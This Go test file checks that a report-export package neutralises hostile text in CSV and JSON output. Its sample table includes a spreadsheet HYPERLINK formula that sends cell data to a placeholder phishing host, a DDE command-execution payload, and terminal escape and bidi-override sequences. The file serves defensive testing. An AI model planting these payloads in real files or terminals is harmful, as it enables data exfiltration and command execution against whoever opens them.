package export

import (
	"encoding/json"
	"fmt"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"

	"reportmx/reports"
	"reportmx/storage"
)

// hostile texts, as strangers may put them anywhere.
var hostile = []struct{ name, text string }{
	{"formula", `=HYPERLINK("http://phish.example/?"&A1,"open")`},
	{"plus", "+1+cmd|' /C calc'!A0"},
	{"minus", "-2+3"},
	{"at", "@SUM(1,2)"},
	{"full-width", "＝1+1"},
	{"space before", "  \u3000=1+1"},
	{"tab", "\t=1"},
	{"newline", "\n=1\r\n=2"},
	{"carriage return", "\r=1"},
	{"title sequence", "\x1b]0;owned\x07name"},
	{"csi", "\x1b[2J\u009b31mred"},
	{"override", "moc.elpmaxe\u202e\u2066"},
	{"invisible", "a\u200b\u200d\ufeff\u00ad\U000e0041b"},
	{"line separators", "a\u2028b\u2029c\u0085d\vf\f"},
	{"nul and del", "\x00\x7f"},
	{"not utf-8", "caf\xe9 \xff\xc0\x80 \xed\xa0\x80"},
	{"quotes", `"quoted", \"twice\" \x1b`},
	{"json", `"},{"seq":1}]`},
	{"graphic", "Бюро 東京 café 🙂"},
	{"long", strings.Repeat("=\x1b\",", 500)},
}

// poisoned is a report of the kind with the text in every field that can hold
// it, and twice in every list.
func poisoned(kind reports.Kind, text string) *storage.Report {
	r := map[reports.Kind]func() *storage.Report{
		reports.KindAggregate: sampleAggregate, reports.KindFailure: sampleFailure, reports.KindTLS: sampleTLS,
	}[kind]()
	poison(reflect.ValueOf(r).Elem(), text)
	r.Kind = kind
	return r
}

func poison(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Pointer:
		if !v.IsNil() {
			poison(v.Elem(), text)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Field(i).CanSet() {
				poison(v.Field(i), text)
			}
		}
	case reflect.Slice:
		if v.Type().Elem().Kind() == reflect.Uint8 {
			return
		}
		for i := range v.Len() {
			poison(v.Index(i), text)
		}
	}
}

func TestHostileText(t *testing.T) {
	for _, h := range hostile {
		for _, kind := range []reports.Kind{reports.KindAggregate, reports.KindFailure, reports.KindTLS} {
			for _, format := range allFormats {
				t.Run(fmt.Sprintf("%s/%s/%s", h.name, kind, format), func(t *testing.T) {
					in := poisoned(kind, h.text)
					out := written(t, kind, Options{Format: format}, in)
					checkHarmless(t, out, format)
					if format == FormatCSV {
						checkCells(t, out, h.text)
					} else {
						checkStrings(t, out, format, h.text)
					}
				})
			}
		}
	}
}

// TestHostileParsedmarc: what strangers write is as harmless in the formats of
// parsedmarc, and moves no cell.
func TestHostileParsedmarc(t *testing.T) {
	for _, h := range hostile {
		for _, kind := range []reports.Kind{reports.KindAggregate, reports.KindFailure, reports.KindTLS} {
			t.Run(fmt.Sprintf("%s/%s", h.name, kind), func(t *testing.T) {
				in := poisoned(kind, h.text)
				out := written(t, kind, Options{Format: FormatParsedmarcCSV}, in)
				checkHarmless(t, out, FormatCSV)
				for _, row := range readCSV(t, out)[1:] {
					for i, cell := range row {
						for _, piece := range strings.FieldsFunc(cell, func(r rune) bool { return r == ';' || r == '|' }) {
							if formula(piece) {
								t.Errorf("cell %d: %.100q would run as a formula", i, cell)
							}
						}
					}
				}
				out = written(t, kind, Options{Format: FormatParsedmarcJSON}, in)
				checkHarmless(t, out, FormatJSON)
				if got := strings.Count(out, string(appendJSONString(nil, h.text))); got < 12 {
					t.Errorf("the text came back %d times, want it in each of 12 fields or more", got)
				}
				if !json.Valid([]byte(out)) {
					t.Errorf("not JSON: %.300s", out)
				}
			})
		}
	}
}

// checkHarmless: nothing in the output moves a cursor or hides.
func checkHarmless(t *testing.T, out string, format Format) {
	t.Helper()
	if format == FormatCSV {
		out = strings.ReplaceAll(out, "\r\n", "\n")
	}
	for i, r := range out {
		if r != '\n' && !strconv.IsGraphic(r) {
			t.Fatalf("byte %d of the output is %U", i, r)
		}
	}
}

// checkStrings: the JSON gives back each text, with U+FFFD for what is no UTF-8.
func checkStrings(t *testing.T, out string, format Format, text string) {
	t.Helper()
	want := string([]rune(text))
	seen := 0
	lines := []string{out}
	if format != FormatJSON {
		lines = strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	}
	for _, line := range lines {
		var value any
		if err := json.Unmarshal([]byte(line), &value); err != nil {
			t.Fatalf("not JSON: %v\n%.300s", err, line)
		}
		walk(value, func(name, s string) {
			switch {
			case s == want:
				seen++
			case slices.Contains([]string{"kind", "row", "dmarc", "begin", "end", "received_at", "arrival_date", "source_ip",
				"sending_mta_ip", "receiving_ip"}, name), s == "computed", s == "":
			default:
				t.Errorf("%s = %.100q, want %.100q", name, s, want)
			}
		})
	}
	if seen < 20 {
		t.Errorf("the text came back %d times, want it in each of more than 20 fields", seen)
	}
}

func walk(value any, found func(name, s string)) { walkNamed("", value, found) }

func walkNamed(name string, value any, found func(name, s string)) {
	switch v := value.(type) {
	case string:
		found(name, v)
	case []any:
		for _, e := range v {
			walkNamed(name, e, found)
		}
	case map[string]any:
		for key, e := range v {
			walkNamed(key, e, found)
		}
	}
}

// checkCells: no cell, and no piece of one where a ";" separates, is a formula,
// and each gives back its text.
func checkCells(t *testing.T, out, text string) {
	t.Helper()
	rows := readCSV(t, out)
	seen := 0
	for _, row := range rows[1:] {
		for i, cell := range row {
			for _, piece := range strings.Split(cell, ";") {
				if formula(piece) && piece != "-" {
					t.Errorf("%s: %.100q would run as a formula", rows[0][i], cell)
				}
			}
			first, _, _ := strings.Cut(cell, ";")
			if unescaped(first) == text || unescaped(cell) == text {
				seen++
			}
		}
	}
	if seen < 20 {
		t.Errorf("the text came back from %d cells, want more than 20:\n%.2000q", seen, rows)
	}
}

// unescaped takes back what a cell's text went through.
func unescaped(cell string) string {
	if formula(strings.TrimPrefix(cell, "'")) || strings.HasPrefix(cell, `'\`) {
		cell = strings.TrimPrefix(cell, "'")
	}
	text, err := strconv.Unquote(`"` + strings.ReplaceAll(cell, `"`, `\"`) + `"`)
	if err != nil {
		return "not to be unescaped: " + cell
	}
	return text
}

func TestCells(t *testing.T) {
	tests := []struct {
		name, text           string
		want, wantRaw, inAll string // as one cell, the same raw, and as two of a list
	}{
		{"plain", "mailbox.example", `mailbox.example`, `mailbox.example`, `mailbox.example;mailbox.example`},
		{"empty", "", ``, ``, `;`},
		{"comma", "a,b", `"a,b"`, `"a,b"`, `"a,b;a,b"`},
		{"quote", `a"b`, `"a""b"`, `"a""b"`, `"a""b;a""b"`},
		{"formula", "=1", `"'=1"`, `=1`, `"'=1;'=1"`},
		{"full-width formula", "＝1", `"'＝1"`, `＝1`, `"'＝1;'＝1"`},
		{"full-width plus", "＋1", `"'＋1"`, `＋1`, `"'＋1;'＋1"`},
		{"full-width minus", "－1", `"'－1"`, `－1`, `"'－1;'－1"`},
		{"full-width at", "＠A", `"'＠A"`, `＠A`, `"'＠A;'＠A"`},
		{"wide space before", "\u3000=1", "\"'\u3000=1\"", "\u3000=1", "\"'\u3000=1;'\u3000=1\""},
		{"plus", "+1", `"'+1"`, `+1`, `"'+1;'+1"`},
		{"minus", "-1", `"'-1"`, `-1`, `"'-1;'-1"`},
		{"line feed", "\n1", `"'\n1"`, `\n1`, `"'\n1;'\n1"`},
		{"carriage return", "\r1", `"'\r1"`, `\r1`, `"'\r1;'\r1"`},
		{"domain of a signature", "@example.com", `"'@example.com"`, `@example.com`, `"'@example.com;'@example.com"`},
		{"newline", "a\nb", `a\nb`, `a\nb`, `a\nb;a\nb`},
		{"semicolon", "a; b", `a; b`, `a; b`, `a\x3b b;a\x3b b`},
		{"semicolon and formula", "a; =1", `a\x3b =1`, `a; =1`, `a\x3b =1;a\x3b =1`},
		{"semicolon, quote and formula", `a;"=1`, `"a\x3b""=1"`, `"a;""=1"`, `"a\x3b""=1;a\x3b""=1"`},
		{"quote and formula", `"=1`, `"""=1"`, `"""=1"`, `"""=1;'""=1"`},
		{"space around", " a ", `" a "`, `" a "`, `" a ; a "`},
		{"backslash", `a\x1b`, `a\\x1b`, `a\\x1b`, `a\\x1b;a\\x1b`},
		{"apostrophe", "'a", `"'a"`, `"'a"`, `"'a;'a"`},
		{"tab", "\t1", `"'\t1"`, `\t1`, `"'\t1;'\t1"`},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			var cell, raw, list row
			raw.raw = true
			cell.text("c", test.text)
			raw.text("c", test.text)
			list.texts("c", []string{test.text, test.text})
			if string(cell.b) != test.want || string(raw.b) != test.wantRaw || string(list.b) != test.inAll {
				t.Errorf("got %s, raw %s, list %s, want %s, %s, %s", cell.b, raw.b, list.b, test.want, test.wantRaw, test.inAll)
			}
		})
	}
}
